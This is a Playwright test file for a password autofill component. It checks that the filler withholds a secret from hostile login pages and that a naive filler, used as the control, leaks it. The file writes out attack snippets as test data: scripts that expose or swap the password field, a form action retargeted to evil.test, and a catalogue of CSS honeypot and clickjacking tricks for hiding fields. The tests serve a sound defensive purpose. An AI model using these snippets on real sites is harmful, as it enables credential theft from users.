"""Pages that turn on the filler while it fills, and pages that hide what they ask.

The control of each is a filler that finds a field and sets it: `page.fill`.
"""

from __future__ import annotations

import contextlib
from collections.abc import Awaitable, Callable

import pytest
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import Page

from konnector_runner.autofill.plan import Refusal
from konnector_runner.errors import BrowserError, DocumentGone
from tests.runner.autofill.world import (
    BANK,
    LOGIN,
    SECRET,
    USER,
    Source,
    Tell,
    World,
    fill_naively,
    values,
)

pytestmark = pytest.mark.browser

_EVIL = "https://evil.test"
_LOGIN = LOGIN + "</form>"
_TYPED = "<script>u.addEventListener('input', () => {"
_END = "}, { once: true })</script>"

# What the page does as soon as a first letter of the name is there. The naive filler
# has set the name as well, and goes on to what is called the password then.
_TURNS = {
    "the password becomes a text that all can read": "p.type = 'text'",
    "a text takes the place of the password": (
        "p.outerHTML = '<input id=p name=password>'"
    ),
    "the password moves into a sign-up": (
        "document.body.innerHTML = '<form><h1>Create an account</h1><input id=u>'"
        "+ '<input id=p type=password autocomplete=new-password>'"
        "+ '<button>Sign up</button></form>'"
    ),
    "the form is sent to somebody else": f"p.form.action = '{_EVIL}/take'",
    "the password slips under a picture": (
        "document.body.insertAdjacentHTML('beforeend', '<div style=\"position:fixed;"
        "inset:0;background:#eee;pointer-events:none\"></div>')"
    ),
    "an observer swaps what is looked at": (
        "new MutationObserver(() => {}).observe(document, { childList: true });"
        "const q = p.cloneNode(); q.type = 'text'; p.replaceWith(q)"
    ),
}


async def _naively(page: Page) -> None:
    """Fill as who looks for a field and sets it."""
    await page.fill("#u", USER)
    with contextlib.suppress(PlaywrightError):
        await page.fill("#p", SECRET, timeout=2000)


def test_a_page_that_turns_while_it_is_filled_gets_no_password(tell: Tell) -> None:
    """Each trick has the password from a naive filler, and not from this one."""

    async def story(world: World) -> None:
        for name, script in _TURNS.items():
            html = _LOGIN + _TYPED + script + _END
            page = await world.visit(html)
            await world.fill(page)
            assert SECRET not in await values(page), name

            control = await world.visit(html)
            await _naively(control)
            assert SECRET in await values(control), name

    tell(story)


_Move = Callable[[Page], Awaitable[object]]


async def _leave(page: Page) -> None:
    await page.goto(_EVIL + "/")


async def _swap_frame(page: Page) -> None:
    await page.evaluate(f"document.querySelector('iframe').src = '{_EVIL}/'")
    await page.frames[1].wait_for_url(_EVIL + "/")
    await page.frames[1].wait_for_selector("#p")


_MOVES: dict[str, tuple[str, _Move]] = {
    "the page goes to another site": (_LOGIN, _leave),
    "the frame goes to another site": (
        "<iframe width=600 height=300 src=/frame></iframe>",
        _swap_frame,
    ),
}


def test_a_site_that_is_gone_gets_nothing(tell: Tell) -> None:
    """The page leaves as the password is released: what came instead stays empty."""

    async def story(world: World) -> None:
        world.pages[_EVIL + "/"] = (_LOGIN, {})
        world.pages[BANK + "/frame"] = (_LOGIN, {})
        for name, (html, move) in _MOVES.items():
            page = await world.visit(html)
            await page.frames[-1].wait_for_selector("#p")
            source = Source(lambda move=move, page=page: move(page))  # type: ignore[misc]
            with contextlib.suppress(DocumentGone, BrowserError):
                await world.fill(page, source)
            assert ("password", BANK) in source.released, name
            assert page.frames[-1].url == _EVIL + "/", name
            assert await values(page) == [], name
            # Who found the frame before, and sets it now, sets what came instead.
            await fill_naively(page)
            assert SECRET in await values(page), name

    tell(story)


def _with(style: str) -> str:
    return f"<style>#u, #p {{ {style} }}</style>{_LOGIN}"


def _inside(style: str) -> str:
    return f"<div style='{style}'>{_LOGIN}</div>"


_HIDDEN = {
    "not displayed": _with("display: none"),
    "not visible": _with("visibility: hidden"),
    "shrunk": _inside("transform: scale(0)"),
    "shrunk to a speck": _inside("transform: scale(.01)"),
    "filtered away": _inside("filter: opacity(0)"),
    "filtered to a breath": _inside("filter: opacity(3%)"),
    "masked": _inside("mask-image: linear-gradient(transparent, transparent)"),
    "clipped to a point": _inside("clip-path: circle(0)"),
    "clipped in the old way": _inside("position: absolute; clip: rect(0,0,0,0)"),
    "far to the left": _inside("position: absolute; left: -9999px"),
    "far above": _inside("position: absolute; top: -9999px"),
    "moved away": _inside("transform: translateX(-9999px)"),
    "in a box of one pixel": _inside("width: 1px; height: 1px; overflow: hidden"),
    "folded": _inside("max-height: 0; overflow: hidden"),
    "below the page": (
        "<style>html { background: #fff }</style>"
        "<div style='position:fixed;inset:0;background:#fff'></div>"
        + _inside("position: relative; z-index: -1")
    ),
    "under a picture that lets clicks through": (
        _LOGIN + "<div style='position:fixed;inset:0;background:url(data:,)"
        ";background-color:#fff;pointer-events:none'>Win!</div>"
    ),
    "under a see-through frame of a stranger's": (
        _LOGIN + f"<iframe src={_EVIL}/ style='position:fixed;inset:0;width:100%;"
        "height:100%;opacity:.01;border:0'></iframe>"
    ),
    "disabled": _LOGIN.replace("<input", "<input disabled"),
    "in what is not rendered yet": (
        "<details><summary>More</summary>" + _LOGIN + "</details>"
    ),
}


def test_what_a_person_does_not_see_is_left_alone(tell: Tell) -> None:
    """Honeypots of each kind get nothing; seen, the same form is filled."""

    async def story(world: World) -> None:
        world.pages[_EVIL + "/"] = ("<p>press here</p>", {})
        for name, html in _HIDDEN.items():
            await _expect_nothing(world, name, html)
        page = await world.visit(_inside("transform: scale(.9)"))
        assert (await world.fill(page)).refusal is None
        assert await values(page) == [USER, SECRET]

    tell(story)


async def _expect_nothing(world: World, name: str, html: str) -> None:
    source = Source()
    page = await world.visit(html)
    report = await world.fill(page, source)
    assert report.refusal in {Refusal.UNSEEN, Refusal.COVERED, Refusal.NO_FIELD}, name
    assert source.released == [], name
    assert await values(page) == [], name
    await fill_naively(page)
    assert SECRET in await values(page), name


_PICTURE = "data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22/>"
_KEYS = "".join(
    f"<button type=button class=k{digit}><img width=20 height=20 src='{_PICTURE}'>"
    "</button>"
    for digit in range(10)
)
_ODD = {
    "keys with pictures": _LOGIN.replace("type=password", "type=password readonly")
    + _KEYS,
    "a password that is no field": (
        "<form><h1>Log in</h1><div contenteditable role=textbox aria-label=Password"
        " style='width:200px;height:20px'></div></form>"
    ),
}


def test_what_can_not_be_filled_safely_is_said(tell: Tell) -> None:
    """Keys that can not be read and fields that are none: the password stays here."""

    async def story(world: World) -> None:
        for name, html in _ODD.items():
            source = Source()
            page = await world.visit(html)
            report = await world.fill(page, source)
            assert report.refusal is not None, name
            assert ("password", BANK) not in source.released, name
            assert SECRET not in await page.content(), name

    tell(story)
